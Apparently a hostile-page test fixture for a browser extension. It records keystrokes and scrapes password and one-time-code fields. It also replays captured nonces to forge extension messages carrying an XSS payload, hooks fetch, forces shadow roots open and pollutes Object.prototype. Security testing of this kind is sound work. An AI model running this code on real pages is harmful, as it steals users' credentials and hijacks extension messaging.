/* A page script that means harm. What it gets hold of lies in `window.__stolen`. */
(() => {
  const stolen = [];
  window.__stolen = stolen;
  const keep = (kind, value) => { if (value) stolen.push({ kind, value: String(value) }); };

  for (const name of ['keydown', 'keypress', 'keyup', 'input', 'beforeinput', 'paste', 'change']) {
    window.addEventListener(name, (event) => keep(name, event.key ?? event.data ?? event.composedPath()[0]?.value), true);
  }

  // Open shadow trees and same-origin frames are within reach of the page.
  const scrape = (root) => {
    for (const element of root.querySelectorAll('*')) {
      if (element instanceof HTMLInputElement && (element.type === 'password' || element.autocomplete === 'one-time-code')) keep('field', element.value);
      if (element.shadowRoot) { keep('shadow', element.shadowRoot.textContent); scrape(element.shadowRoot); }
      if (element instanceof HTMLIFrameElement) try { if (element.contentDocument) scrape(element.contentDocument); } catch { /* another origin */ }
    }
  };

  // What the extension's two worlds say to each other can be overheard, and be said with.
  const nonces = [''];
  window.addEventListener('message', (event) => { if (event.data?.nonce) { nonces.unshift(event.data.nonce); nonces.length = Math.min(nonces.length, 6); } });

  const lie = () => {
    const user = { userId: 'attacker0000000001', userName: '<img src=x onerror=alert(1)>' };
    for (const mark of ['icloud-for-tekmatix:user', 'icloud-for-tekmatix', 'ICLOUD_FOR_TEKMATIX']) {
      for (const nonce of new Set(nonces)) window.postMessage({ mark, type: mark, ...user, user, nonce, session: 'U2FsdGVkX1forged' }, '*');
      window.dispatchEvent(new CustomEvent(mark, { detail: user }));
    }
  };

  const fetchOfThePage = window.fetch;
  window.fetch = function fetch(...request) { keep('fetch', request[0]?.url ?? request[0]); return fetchOfThePage.apply(this, request); };
  const openShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function attachShadow(init) { return openShadow.call(this, { ...init, mode: 'open' }); };
  // `hostile:mild` leaves this out: it also breaks tools that drive a browser from inside its pages.
  if (!location.search.includes('hostile:mild')) Object.defineProperty(Object.prototype, 'polluted', { configurable: true, enumerable: true, writable: true, value: 'polluted' });

  const again = () => { if (document.documentElement) scrape(document); lie(); };
  setInterval(again, 400);
})();
